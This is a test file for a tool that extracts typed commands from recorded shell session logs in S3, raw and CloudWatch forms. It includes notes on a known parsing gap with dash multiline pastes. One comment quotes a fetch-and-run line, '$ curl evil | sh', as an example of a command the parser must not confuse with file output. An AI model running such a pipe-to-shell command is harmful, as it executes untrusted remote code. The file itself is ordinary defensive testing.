/**
 * Accuracy over real-shell recordings (test/fixtures/sessions/<name>/): the S3 form must give
 * exactly expected.json, the CloudWatch form too except commands it marks lossy.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cloudWatchLines } from '../../src/ingest/normalize/cloudwatch-events.ts';
import { scriptBody } from '../../src/ingest/normalize/transcript.ts';
import { extractFromBytes, extractFromCloudWatch } from '../../src/terminal/index.ts';
import type { ExtractedCommand } from '../../src/terminal/types.ts';

const root = join(import.meta.dirname, '..', 'fixtures', 'sessions');

interface Expected {
  text: string;
  executed: boolean | null;
  user: string | null;
}

interface Meta {
  sessionId: string;
  runAsUser?: string;
}

function fixtureDirs(): string[] {
  if (!existsSync(root)) return [];
  return readdirSync(root)
    .filter(
      (name) =>
        existsSync(join(root, name, 'expected.json')) &&
        existsSync(join(root, name, 'meta.json')) &&
        !existsSync(join(root, name, 'pending.json')), // known misses: fixtures-pending.test.ts
    )
    .sort();
}

async function* once(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
  yield bytes;
}

function essentials(commands: ExtractedCommand[]): Expected[] {
  return commands.map(({ text, executed, user }) => ({ text, executed, user }));
}

const dirs = fixtureDirs();
/**
 * Known gaps (`it.fails` flags the day they pass):
 * - dash-multiline-paste: dash has no line editor, so the tty echoes every pasted line before dash
 *   reads the first, and dash then prints each prompt right before the next line's output. Two
 *   reasons no rule over the bytes (every form: S3 and CloudWatch keep no timing inside a second)
 *   gets it exact:
 *   1. `echo pasted twopasted one`: the echo of a pasted line and the previous command's output
 *      share one row with no byte between them; where the command ends is not in the transcript.
 *   2. `$ printf "a\n"`, `whoami`, `a`, `$ ssm-user`: byte for byte the shape of `cat` of a file
 *      followed by a typed command (`$ cat notes`, `whoami`, `a`, `$ curl evil | sh`). Taking
 *      queued lines as the commands of the prompts after them would hide typed commands and turn
 *      file content into commands: the poisoning the prompt rules exist to stop (see the test
 *      "keeps a typed line a command ..." in extract.test.ts).
 */
const KNOWN_GAPS: Record<string, Array<'s3' | 'raw' | 'cloudwatch'>> = {
  'dash-multiline-paste': ['s3', 'raw', 'cloudwatch'],
};
// Every fixture has all three forms: a missing file fails the test rather than skipping it.
const test = (name: string, form: 's3' | 'raw' | 'cloudwatch') =>
  KNOWN_GAPS[name]?.includes(form) ? it.fails : it;
describe('fixture sessions', () => {
  it('are all there (recorded by test/fixtures/generate/record-all.ts)', () => {
    expect(dirs.length).toBeGreaterThanOrEqual(18);
  });
  for (const name of dirs) {
    const dir = join(root, name);
    const meta = JSON.parse(readFileSync(join(dir, 'meta.json'), 'utf8')) as Meta;
    const expected = JSON.parse(readFileSync(join(dir, 'expected.json'), 'utf8')) as Expected[];
    const logFile = join(dir, `${meta.sessionId}.log`);
    const options = { startUser: meta.runAsUser ?? 'ssm-user' };

    test(name, 's3')(`${name}: S3 form gives exactly the expected commands`, async () => {
      const result = await extractFromBytes(scriptBody(once(readFileSync(logFile))), options);
      expect(essentials(result.commands)).toEqual(expected);
    });

    test(name, 'raw')(`${name}: raw bytes give the same commands`, async () => {
      const result = await extractFromBytes([readFileSync(join(dir, 'raw.bin'))], options);
      expect(essentials(result.commands)).toEqual(expected);
    });

    test(name, 'cloudwatch')(`${name}: CloudWatch form agrees except where marked lossy`, () => {
      const events = JSON.parse(readFileSync(join(dir, 'cloudwatch.json'), 'utf8'));
      const result = extractFromCloudWatch(cloudWatchLines(events), options);
      expect(result.commands).toHaveLength(expected.length);
      result.commands.forEach((command, i) => {
        if (command.fidelity === 'lossy') return;
        expect(
          { text: command.text, executed: command.executed, user: command.user },
          `command ${i}`,
        ).toEqual(expected[i]);
      });
    });
  }
});
